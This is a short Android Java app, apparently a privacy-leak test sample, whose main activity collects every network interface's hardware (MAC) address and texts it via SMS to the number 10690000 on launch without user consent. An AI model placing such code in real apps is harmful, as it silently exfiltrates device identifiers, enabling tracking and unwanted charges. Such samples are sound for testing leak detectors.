package cn.privlens.suite.hardware_address_hex;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import java.util.Collections;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        StringBuilder all = new StringBuilder();
        try {
            for (java.net.NetworkInterface one : Collections.list(java.net.NetworkInterface.getNetworkInterfaces())) {
                byte[] address = one.getHardwareAddress();
                if (address != null) {
                    for (byte part : address) {
                        all.append(String.format("%02X:", part));
                    }
                }
            }
        } catch (java.net.SocketException e) {
            setTitle("e");
        }
        SmsManager.getDefault().sendTextMessage("10690000", null, all.toString(), null, null);
    }
}
